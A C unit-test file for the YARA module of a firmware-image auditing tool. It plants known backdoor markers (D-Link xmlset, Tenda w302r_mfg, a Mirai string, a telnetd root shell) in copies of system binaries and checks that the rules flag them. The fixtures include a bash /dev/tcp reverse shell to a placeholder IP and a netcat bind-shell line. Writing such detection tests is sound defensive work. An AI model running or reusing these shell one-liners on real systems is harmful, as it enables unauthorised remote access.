/* yara: the built-in rules against planted indicators (appended to copies of
 * the host's own ELF programs, or written as text) and against clean Debian
 * programs; user rule files and directories (namespace, tags, meta, severity);
 * a rule with a syntax error (gb_audit_run fails with the compiler's message,
 * the CLI exits 5). The oracle is the fixture: where each indicator was put. */
#include "../harness.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <jansson.h>

static const char *const only[] = {"yara"};

static void put(const char *path, const void *data, size_t n)
{
	gbt_sh("mkdir -p \"$(dirname '%s')\"", path);
	gbt_write_file(path, data, n);
}

static void put_str(const char *path, const char *text)
{
	put(path, text, strlen(text));
}

static size_t fsize(const char *path)
{
	struct stat st;
	assert_int_equal(stat(path, &st), 0);
	return (size_t)st.st_size;
}

/* root/<path>: a copy of the host's /bin/true with `marker` appended after a
 * NUL; returns the marker's offset. */
static size_t elf_with(const char *path, const void *marker, size_t n)
{
	char full[512];
	snprintf(full, sizeof(full), "yr%s", path);
	gbt_sh("mkdir -p \"$(dirname '%s')\" && cp /bin/true '%s' && printf '\\0' >> '%s'", full, full, full);
	size_t off = fsize(full);
	FILE *f = fopen(full, "ab");
	assert_non_null(f);
	assert_int_equal(fwrite(marker, 1, n, f), n);
	fclose(f);
	return off;
}

static int audit(const char *root, const struct gb_audit_opts *base, struct gb_scan **ret_scan,
		 struct gb_audit **ret)
{
	struct gb_audit_opts opts = *base;
	char img[256], out[256];

	snprintf(img, sizeof(img), "%s.tar", root);
	snprintf(out, sizeof(out), "%s.out", root);
	gbt_sh("rm -f %s && tar -C %s --owner=0 --group=0 -cf %s .", img, root, img);
	*ret_scan = gbt_scan(img, out);
	opts.jobs = 2;
	opts.only = only;
	opts.n_only = 1;
	*ret = NULL;
	return gb_audit_run(*ret_scan, &opts, ret);
}

/* opts with the source file rules/backdoors.yar as --rules instead of the
 * built-in set (path holds its name and must outlive the audit); false,
 * after a SKIP line naming `what`, when GB_SOURCE_ROOT is unset. */
static bool source_rules(struct gb_audit_opts *opts, char path[512], const char **rules, const char *what)
{
	const char *src = getenv("GB_SOURCE_ROOT");
	if (!src) {
		fprintf(stderr, "SKIP: %s (GB_SOURCE_ROOT unset)\n", what);
		return false;
	}
	snprintf(path, 512, "%s/rules/backdoors.yar", src);
	rules[0] = path;
	opts->no_default_rules = true;
	opts->rules = rules;
	opts->n_rules = 1;
	return true;
}

static void dump(const struct gb_audit *a)
{
	char *s = json_dumps(gb_audit_section(a, "findings"), JSON_INDENT(1));
	fprintf(stderr, "%s\n", s ? s : "?");
	free(s);
}

static const json_t *find(const struct gb_audit *a, const char *rule, const char *path)
{
	size_t i;
	const json_t *f;
	json_array_foreach(gb_audit_section(a, "findings"), i, f)
		if (strcmp(json_string_value(json_object_get(f, "rule")), rule) == 0 &&
		    strcmp(json_string_value(json_object_get(f, "path")), path) == 0)
			return f;
	return NULL;
}

static size_t count_path(const struct gb_audit *a, const char *path)
{
	size_t i, n = 0;
	const json_t *f;
	json_array_foreach(gb_audit_section(a, "findings"), i, f)
		n += strcmp(json_string_value(json_object_get(f, "path")), path) == 0;
	return n;
}

static const json_t *expect(const struct gb_audit *a, const char *rule, const char *path, const char *sev,
			    long long offset)
{
	const json_t *f = find(a, rule, path);
	if (!f) {
		fprintf(stderr, "missing %s on %s\n", rule, path);
		dump(a);
	}
	assert_non_null(f);
	assert_int_equal(count_path(a, path), 1);
	assert_string_equal(json_string_value(json_object_get(f, "severity")), sev);
	assert_int_equal(json_integer_value(json_object_get(f, "offset")), offset);
	assert_true(json_is_null(json_object_get(f, "line")));
	const json_t *d = json_object_get(f, "details");
	const json_t *s0 = json_array_get(json_object_get(d, "strings"), 0);
	assert_non_null(s0);
	assert_int_equal(json_integer_value(json_object_get(s0, "offset")), offset);
	assert_true(json_string_value(json_object_get(s0, "identifier"))[0] == '$');
	return d;
}

static void test_default_rules(void **state)
{
	(void)state;
	struct gb_audit_opts opts;
	struct gb_scan *scan;
	struct gb_audit *a;
	static const char dlink[] = "xmlset_roodkcableoj28840ybtide";
	static const char tel[] = "/usr/sbin/telnetd -p 2323 -l /bin/sh";
	static const char mirai[] = "MIRAI: applet not found";
	char mirai_x[sizeof(mirai)];

	for (size_t i = 0; i < sizeof(mirai) - 1; i++)
		mirai_x[i] = (char)(mirai[i] ^ 0x22);
	gbt_sh("rm -rf yr");
	size_t o_dlink = elf_with("/usr/sbin/webs", dlink, sizeof(dlink));
	size_t o_tel = elf_with("/usr/bin/factory", tel, sizeof(tel));
	size_t o_mirai = elf_with("/tmp/.x/dvrHelper", mirai_x, sizeof(mirai) - 1);
	size_t o_tenda = elf_with("/bin/httpd", "w302r_mfg", 10);
	static const char rev[] = "#!/bin/sh\n# keep in touch\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
	put_str("yr/etc/hotplug.d/net/99-x", rev);
	/* the same strings as text, where only the one-liner rules apply */
	put_str("yr/etc/notes.txt", "telnetd -l /bin/sh\nnc -l -p 4444 -e /bin/sh\n");
	/* clean programs from Debian */
	gbt_sh("mkdir -p yr/clean && cp /bin/true /bin/sh /bin/bash /bin/ls yr/clean/"
	       " && for p in busybox nc.traditional nc.openbsd socat sshd dropbear telnetd gdbserver; do"
	       "   q=$(command -v $p) && cp \"$q\" yr/clean/ || true; done");

	gb_audit_opts_init(&opts);
	assert_int_equal(audit("yr", &opts, &scan, &a), 0);
	const json_t *d = expect(a, "yara.dlink_xmlset_backdoor", "/usr/sbin/webs", "critical", (long long)o_dlink);
	assert_string_equal(json_string_value(json_object_get(d, "namespace")), "glassbox");
	assert_true(json_is_array(json_object_get(d, "tags")));
	const json_t *meta = json_object_get(d, "meta");
	assert_string_equal(json_string_value(json_object_get(meta, "cve")), "CVE-2013-6026");
	assert_non_null(json_string_value(json_object_get(meta, "reference")));
	/* the telnetd string is matched from its start, "telnetd" */
	expect(a, "yara.hardcoded_telnetd_shell", "/usr/bin/factory", "high", (long long)(o_tel + 10));
	expect(a, "yara.mirai_busybox_marker", "/tmp/.x/dvrHelper", "critical", (long long)o_mirai);
	expect(a, "yara.tenda_w302r_mfg_backdoor", "/bin/httpd", "critical", (long long)o_tenda);
	expect(a, "yara.reverse_shell_dev_tcp", "/etc/hotplug.d/net/99-x", "critical",
	       (long long)(strstr(rev, "bash -i") - rev));
	assert_int_equal(count_path(a, "/etc/notes.txt"), 0);
	assert_int_equal(json_array_size(gb_audit_section(a, "findings")), 5);
	const json_t *sum = json_object_get(gb_audit_summary(a), "yara");
	assert_non_null(sum);
	assert_true(json_integer_value(json_object_get(sum, "rules")) >= 10);
	assert_true(json_integer_value(json_object_get(sum, "files_scanned")) >= 10);
	assert_int_equal(json_integer_value(json_object_get(sum, "matches")), 5);
	json_t *builtin = json_deep_copy(gb_audit_section(a, "findings"));
	gb_audit_free(a);
	gb_scan_free(scan);

	/* The built-in set is loaded as compiled at build time: the source file
	 * compiled at run time finds exactly the same (rule, path, offset). */
	char path[512];
	const char *rules[1];
	struct gb_audit_opts o2 = opts;
	if (source_rules(&o2, path, rules, "built-in vs source rules")) {
		assert_int_equal(audit("yr", &o2, &scan, &a), 0);
		const json_t *fs = gb_audit_section(a, "findings");
		assert_int_equal(json_array_size(fs), json_array_size(builtin));
		size_t i;
		const json_t *f;
		json_array_foreach(builtin, i, f) {
			const json_t *g = json_array_get(fs, i);
			assert_string_equal(json_string_value(json_object_get(f, "rule")),
					    json_string_value(json_object_get(g, "rule")));
			assert_string_equal(json_string_value(json_object_get(f, "path")),
					    json_string_value(json_object_get(g, "path")));
			assert_int_equal(json_integer_value(json_object_get(f, "offset")),
					 json_integer_value(json_object_get(g, "offset")));
			assert_string_equal(json_string_value(json_object_get(json_object_get(g, "details"), "namespace")),
					    "backdoors");
		}
		gb_audit_free(a);
		gb_scan_free(scan);
	}
	json_decref(builtin);

	/* --no-default-rules and no --rules: nothing is matched */
	opts.no_default_rules = true;
	assert_int_equal(audit("yr", &opts, &scan, &a), 0);
	assert_int_equal(json_array_size(gb_audit_section(a, "findings")), 0);
	gb_audit_free(a);
	gb_scan_free(scan);
}

static void test_user_rules(void **state)
{
	(void)state;
	struct gb_audit_opts opts;
	struct gb_scan *scan;
	struct gb_audit *a;
	const char *rules[] = {"myrules", "single.yar"};

	gbt_sh("rm -rf ur myrules");
	put_str("ur/etc/a.conf", "header\nvendor_debug_token=ACME-DBG-77\n");
	put_str("ur/opt/b.bin", "....BACKDOOR-2....");
	put_str("ur/opt/c.txt", "nothing to see\n");
	put_str("ur/opt/d.txt", "zz-single-zz\n");
	put_str("myrules/vendor.yar",
		"rule acme_debug_token : vendor debug\n"
		"{\n"
		"\tmeta:\n"
		"\t\tseverity = \"low\"\n"
		"\t\tscore = 42\n"
		"\t\tconfirmed = true\n"
		"\tstrings:\n"
		"\t\t$t = \"ACME-DBG-\"\n"
		"\tcondition:\n"
		"\t\t$t\n"
		"}\n");
	put_str("myrules/sub/second.yara", "rule backdoor_two { strings: $b = \"BACKDOOR-2\" condition: $b }\n");
	put_str("myrules/README", "not a rule file {{{\n");
	put_str("single.yar", "rule single { strings: $s = \"zz-single-zz\" condition: $s }\n");

	gb_audit_opts_init(&opts);
	opts.no_default_rules = true;
	opts.rules = rules;
	opts.n_rules = 2;
	assert_int_equal(audit("ur", &opts, &scan, &a), 0);
	const json_t *d = expect(a, "yara.acme_debug_token", "/etc/a.conf", "low", 26);
	assert_string_equal(json_string_value(json_object_get(d, "namespace")), "vendor");
	const json_t *tags = json_object_get(d, "tags");
	assert_int_equal(json_array_size(tags), 2);
	assert_string_equal(json_string_value(json_array_get(tags, 0)), "vendor");
	assert_string_equal(json_string_value(json_array_get(tags, 1)), "debug");
	const json_t *meta = json_object_get(d, "meta");
	assert_int_equal(json_integer_value(json_object_get(meta, "score")), 42);
	assert_true(json_is_true(json_object_get(meta, "confirmed")));
	d = expect(a, "yara.backdoor_two", "/opt/b.bin", "medium", 4);
	assert_string_equal(json_string_value(json_object_get(d, "namespace")), "second");
	d = expect(a, "yara.single", "/opt/d.txt", "medium", 0);
	assert_string_equal(json_string_value(json_object_get(d, "namespace")), "single");
	assert_int_equal(json_array_size(gb_audit_section(a, "findings")), 3);
	assert_int_equal(json_integer_value(json_object_get(json_object_get(gb_audit_summary(a), "yara"), "rules")),
			 3);
	gb_audit_free(a);
	gb_scan_free(scan);
}

static void test_bad_rules(void **state)
{
	(void)state;
	struct gb_audit_opts opts;
	struct gb_scan *scan;
	struct gb_audit *a;
	const char *bad[] = {"bad.yar"};
	const char *missing[] = {"no-such-rules.yar"};
	const char *empty[] = {"emptydir"};

	gbt_sh("rm -rf br emptydir && mkdir -p emptydir");
	put_str("br/etc/x", "x\n");
	put_str("bad.yar", "rule ok { condition: true }\n"
			   "\n"
			   "rule broken { strings: $a = \"x\" condition: $a and and }\n");
	gb_audit_opts_init(&opts);
	opts.rules = bad;
	opts.n_rules = 1;
	assert_int_equal(audit("br", &opts, &scan, &a), -GB_EINVAL);
	const char *err = gb_audit_error(a);
	assert_non_null(err);
	fprintf(stderr, "error: %s\n", err);
	assert_non_null(strstr(err, "bad.yar:3"));
	assert_non_null(strstr(err, "yara"));
	gb_audit_free(a);
	gb_scan_free(scan);

	/* the same when the rules load on their own thread while the scan runs */
	struct gb_audit_prep *prep = NULL;
	struct gb_audit_opts o2 = opts;
	o2.only = only;
	o2.n_only = 1;
	assert_int_equal(gb_audit_prepare(&o2, true, &prep), 0);
	scan = gbt_scan("br.tar", "br.out2");
	assert_int_equal(gb_audit_run_prepared(prep, scan, &a), -GB_EINVAL);
	assert_non_null(strstr(gb_audit_error(a), "bad.yar:3"));
	gb_audit_free(a);
	gb_scan_free(scan);

	opts.rules = missing;
	assert_int_equal(audit("br", &opts, &scan, &a), -GB_EINVAL);
	assert_non_null(strstr(gb_audit_error(a), "no-such-rules.yar"));
	gb_audit_free(a);
	gb_scan_free(scan);

	opts.rules = empty;
	assert_int_equal(audit("br", &opts, &scan, &a), -GB_EINVAL);
	assert_non_null(strstr(gb_audit_error(a), "no .yar"));
	gb_audit_free(a);
	gb_scan_free(scan);

	/* the CLI: exit 5 and the compiler's message */
	const char *exe = getenv("GLASSBOX");
	if (exe) {
		int st = gbt_sh_status("'%s' scan br.tar -o cli.out --rules bad.yar > cli.log 2>&1", exe);
		assert_int_equal(st, 5);
		gbt_sh("grep -q 'bad.yar:3' cli.log");
	}
}

/* The number a shell command prints. */
static long sh_number(const char *cmd)
{
	long v = -1;
	gbt_sh("%s > num.txt", cmd);
	FILE *f = fopen("num.txt", "r");
	assert_non_null(f);
	if (fscanf(f, "%ld", &v) != 1)
		v = -1;
	fclose(f);
	return v;
}

/* The built-in rules look for strings and tables, which live in data: they
 * skip an ELF file's executable sections (half its bytes). The same string in
 * .text and in .rodata: only the data copy is reported, at its file offset;
 * the user's rules (--rules) still see every byte. */
static void test_code_sections(void **state)
{
	(void)state;
	struct gb_audit_opts opts;
	struct gb_scan *scan;
	struct gb_audit *a;

	put_str("code.c", "__asm__(\".text\\n.ascii \\\"w302r_mfg\\\"\\n\");\n"
			  "const char *volatile keep = \"xmlset_roodkcableoj28840ybtide\";\n"
			  "int main(void) { return keep[0] == 0; }\n");
	gbt_sh("rm -rf cs && mkdir -p cs/bin && cc -O0 -o cs/bin/prog code.c");
	long text_off = sh_number("grep -obUa w302r_mfg cs/bin/prog | head -n1 | cut -d: -f1");
	long data_off = sh_number("grep -obUa xmlset_roodkcableoj28840ybtide cs/bin/prog | head -n1 | cut -d: -f1");
	assert_true(text_off > 0 && data_off > 0);
	/* the oracle: readelf puts the first string inside an executable section */
	assert_int_equal(gbt_sh_status("readelf -SW cs/bin/prog | awk '/ AX /{o=strtonum(\"0x\"$5); s=strtonum(\"0x\"$6);"
				       " if (%ld >= o && %ld < o + s) f=1} END {exit !f}'", text_off, text_off), 0);

	gb_audit_opts_init(&opts);
	assert_int_equal(audit("cs", &opts, &scan, &a), 0);
	expect(a, "yara.dlink_xmlset_backdoor", "/bin/prog", "critical", data_off);
	assert_null(find(a, "yara.tenda_w302r_mfg_backdoor", "/bin/prog"));
	gb_audit_free(a);
	gb_scan_free(scan);

	char path[512];
	const char *rules[1];
	if (!source_rules(&opts, path, rules, "code sections with --rules"))
		return;
	assert_int_equal(audit("cs", &opts, &scan, &a), 0);
	const json_t *f = find(a, "yara.tenda_w302r_mfg_backdoor", "/bin/prog");
	assert_non_null(f);
	assert_int_equal(json_integer_value(json_object_get(f, "offset")), text_off);
	gb_audit_free(a);
	gb_scan_free(scan);
}

/* The offset of section `name` of an ELF file after `skip` bytes, by readelf
 * (the oracle); -1 when it is missing or smaller than skip + 40 bytes. */
static long section_spot(const char *elf, const char *name, long skip)
{
	char cmd[1024];
	snprintf(cmd, sizeof(cmd),
		 "readelf -SW %s | sed 's/\\[ */[/' | awk '$2 == \"%s\" { o = strtonum(\"0x\"$5); "
		 "s = strtonum(\"0x\"$6); if (s >= %ld + 40) print o + %ld }' | head -n1",
		 elf, name, skip, skip);
	return sh_number(cmd);
}

/* The toolchain's tables (relocations, dynamic symbols, unwind data) are
 * skipped by the built-in rules like code; bytes outside every section (data
 * appended to a binary) are not. A user's --rules see all of them. */
static void test_generated_tables(void **state)
{
	static const char *const sections[] = {".rela.dyn", ".dynsym", ".eh_frame"};
	static const char marker[] = "xmlset_roodkcableoj28840ybtide";
	long off[4];
	(void)state;

	gbt_sh("rm -rf gt && mkdir -p gt/bin");
	for (size_t i = 0; i < 3; i++) {
		gbt_sh("cp /bin/true gt/bin/t%zu", i);
		char path[64];
		snprintf(path, sizeof(path), "gt/bin/t%zu", i);
		off[i] = section_spot(path, sections[i], 8);
		assert_true(off[i] > 0);
		gbt_sh("printf '%s' | dd of=%s bs=1 seek=%ld conv=notrunc status=none", marker, path, off[i]);
	}
	gbt_sh("cp /bin/true gt/bin/t3 && printf '%s' >> gt/bin/t3", marker);
	off[3] = (long)fsize("gt/bin/t3") - (long)strlen(marker);

	struct gb_audit_opts opts;
	struct gb_scan *scan;
	struct gb_audit *a;
	gb_audit_opts_init(&opts);
	assert_int_equal(audit("gt", &opts, &scan, &a), 0);
	for (size_t i = 0; i < 3; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/bin/t%zu", i);
		assert_null(find(a, "yara.dlink_xmlset_backdoor", p));
	}
	expect(a, "yara.dlink_xmlset_backdoor", "/bin/t3", "critical", off[3]);
	gb_audit_free(a);
	gb_scan_free(scan);

	char path[512];
	const char *rules[1];
	if (!source_rules(&opts, path, rules, "generated tables with --rules"))
		return;
	assert_int_equal(audit("gt", &opts, &scan, &a), 0);
	for (size_t i = 0; i < 4; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/bin/t%zu", i);
		expect(a, "yara.dlink_xmlset_backdoor", p, "critical", off[i]);
	}
	gb_audit_free(a);
	gb_scan_free(scan);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_default_rules),
		cmocka_unit_test(test_user_rules),
		cmocka_unit_test(test_bad_rules),
		cmocka_unit_test(test_code_sections),
		cmocka_unit_test(test_generated_tables),
	};
	return cmocka_run_group_tests(tests, gbt_setup_tmpdir, gbt_teardown_tmpdir);
}
